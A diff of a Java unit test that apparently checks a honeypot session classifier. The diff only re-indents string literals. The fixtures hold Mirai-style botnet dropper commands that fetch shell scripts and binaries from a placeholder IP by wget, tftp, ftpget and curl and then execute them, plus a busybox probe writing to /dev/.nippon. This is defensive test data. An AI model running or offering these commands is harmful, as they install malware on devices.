@@ -107,9 +107,9 @@ class UnderstandingTest {
         SessionRecord row =
                 row(
                         "cd /tmp || cd /var/run || cd /mnt; wget http://192.0.2.9/bins.sh; sh"
-                            + " bins.sh; tftp 192.0.2.9 -c get tftp1.sh; sh tftp1.sh; tftp -r"
-                            + " tftp2.sh -g 192.0.2.9; sh tftp2.sh; ftpget -v -u anonymous -p"
-                            + " anonymous -P 21 192.0.2.9 ftp1.sh ftp1.sh",
+                                + " bins.sh; tftp 192.0.2.9 -c get tftp1.sh; sh tftp1.sh; tftp -r"
+                                + " tftp2.sh -g 192.0.2.9; sh tftp2.sh; ftpget -v -u anonymous -p"
+                                + " anonymous -P 21 192.0.2.9 ftp1.sh ftp1.sh",
                         "wget http://192.0.2.9/a.mpsl; ./a.mpsl; wget http://192.0.2.9/a.arm7;"
                                 + " ./a.arm7; curl -O 192.0.2.9/a.sh4");
 
@@ -142,7 +142,7 @@ class UnderstandingTest {
         SessionRecord row =
                 row(
                         "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon;"
-                            + " /bin/busybox cat /dev/.nippon; /bin/busybox rm /dev/.nippon");
+                                + " /bin/busybox cat /dev/.nippon; /bin/busybox rm /dev/.nippon");
 
         assertThat(row.reached(Stage.DOWNLOAD)).isFalse();
         assertThat(row.family()).isEqualTo("mirai");
